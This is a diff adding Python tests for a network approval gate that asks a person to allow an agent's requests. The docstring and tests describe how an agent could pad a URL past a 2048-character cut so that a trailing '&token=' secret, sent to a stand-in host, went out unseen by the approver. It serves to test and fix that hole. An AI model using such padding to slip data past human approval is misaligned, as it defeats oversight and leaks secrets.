@@ -1,0 +1,80 @@
+"""Review s20 (gate): the request line a person is asked about is the one that goes out.
+
+The gate cut the request target it put on the question (NetAsk.target, the card's "first
+request" row) and in the recorded decision to 2048 characters, and said nothing about the cut.
+An agent that pads a URL past 2048 characters (`GET http://api.invalid/search?q=aaaa...` then
+`&token=...`) had the person read and allow a request line whose end, the part that carries
+the data, was never on the card, while the whole URL went out; the history showed the same cut
+line as the request. The cut is now marked with how much was cut.
+"""
+
+from __future__ import annotations
+
+import asyncio
+
+from console.gate import NetAsk, NetworkRules, Verdict
+
+from .support import Harness, Origin, read_response, running
+
+PAD = "a" * 2100
+SECRET = "&token=s3cr3t-from-the-sandbox"
+URL = f"http://api.invalid/search?q={PAD}{SECRET}"
+
+
+def _presents_as_whole_but_is_not(shown: str, raw: str) -> bool:
+    """A prefix of the raw target, shown with nothing saying that the rest is missing."""
+    return shown != raw and raw.startswith(shown)
+
+
+async def test_a_target_past_the_cut_is_marked_as_cut_on_the_question_and_the_record() -> None:
+    origin = Origin()
+    questions: list[NetAsk] = []
+
+    async def person(q: NetAsk) -> Verdict:
+        questions.append(q)
+        return Verdict(True, {"by": "alice", "grant": "once"})
+
+    h = Harness(NetworkRules(default="ask", ports=[80, 443]), upstream_port=origin.port,
+                ask=person)
+    try:
+        async with running(h):
+            reader, writer = await h.open()
+            writer.write(f"GET {URL} HTTP/1.1\r\nConnection: close\r\n\r\n".encode())
+            await writer.drain()
+            status = (await read_response(reader))[0]
+            writer.close()
+    finally:
+        origin.close()
+    await asyncio.sleep(0)
+    assert status == 200
+    assert [r["path"] for r in origin.requests] == [URL.removeprefix("http://api.invalid")]
+    assert len(questions) == 1
+    asked = questions[0].target
+    assert not _presents_as_whole_but_is_not(asked, URL), asked[-80:]
+    assert asked == URL or "not shown" in asked[-80:], asked[-80:]
+    decision = h.kinds("net.decision")[0]["target"]
+    assert not _presents_as_whole_but_is_not(decision, URL), decision[-80:]
+
+
+async def test_a_target_within_the_bound_is_asked_and_recorded_as_it_is() -> None:
+    origin = Origin()
+    questions: list[NetAsk] = []
+
+    async def person(q: NetAsk) -> Verdict:
+        questions.append(q)
+        return Verdict(True, {"by": "alice", "grant": "once"})
+
+    h = Harness(NetworkRules(default="ask", ports=[80, 443]), upstream_port=origin.port,
+                ask=person)
+    short = "http://api.invalid/search?q=x&page=2"
+    try:
+        async with running(h):
+            reader, writer = await h.open()
+            writer.write(f"GET {short} HTTP/1.1\r\nConnection: close\r\n\r\n".encode())
+            await writer.drain()
+            assert (await read_response(reader))[0] == 200
+            writer.close()
+    finally:
+        origin.close()
+    assert questions[0].target == short
+    assert h.kinds("net.decision")[0]["target"] == short
